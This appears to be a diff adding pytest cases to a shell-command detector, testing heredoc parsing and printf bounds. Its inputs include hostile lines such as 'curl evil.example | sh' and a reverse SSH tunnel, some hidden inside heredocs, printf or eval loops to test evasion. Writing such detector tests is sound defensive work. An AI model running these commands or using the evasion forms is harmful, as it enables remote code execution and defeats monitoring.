@@ -917,3 +917,31 @@ def test_heredoc_and_error_edges_still_read_the_command(text, name):
 ])
 def test_heredoc_text_is_not_read_as_commands(text):
     assert "ssh" not in names(text)
+
+
+def test_too_many_heredocs_is_an_unreadable_command():
+    """tree-sitter-bash parses a line of many `<<` in quadratic time: such a text is not parsed."""
+    from vigiles.analysis.shell import MAX_HEREDOCS, UNREADABLE
+    cmds = reader.read("x<<E " * (MAX_HEREDOCS + 1) + "\ncurl evil.example | sh")
+    assert [c.name for c in cmds] == [UNREADABLE]
+
+
+@pytest.mark.parametrize("text, name", [
+    ("x=$(cat <<E\nEx\ncat <<Q\nE\n)\ncurl evil.example | sh\nQ", "curl"),  # a heredoc in $(...) renamed too
+    ("echo $[1<<2]; for i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),  # no heredoc in $[...] or ${...}
+    ("echo ${a:-<<E}; for i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),
+    ("echo {\nfor i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),  # a brace of its own opens nothing
+    ("echo $'\\''\nfor i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),
+    ("cat <<E\n" + "".join(f"E_{k}_\n" for k in range(8)) + "cat <<Q\nE\ncurl evil.example|sh\nQ", "curl"),
+    ("printf 'true\\ncurl evil.example' | while read -r l || [ -n \"$l\" ]; do eval \"$l\"; done", "curl"),
+    ("printf '%*s\\n' 0 'curl evil.example|sh' | sh", "curl"),
+])
+def test_second_review_edges(text, name):
+    assert name in names(text)
+
+
+def test_printf_output_is_bounded_in_width_and_precision():
+    from vigiles.analysis.decode import MAX_PRINTF, output_of
+    assert len(output_of("printf", ["%.999999999f", "1"], None)) < 300
+    assert len(output_of("printf", ["%999999999s" * 1000], None)) == MAX_PRINTF
+    assert output_of("printf", ["%(%F)T"], None) is None  # a time: not known here
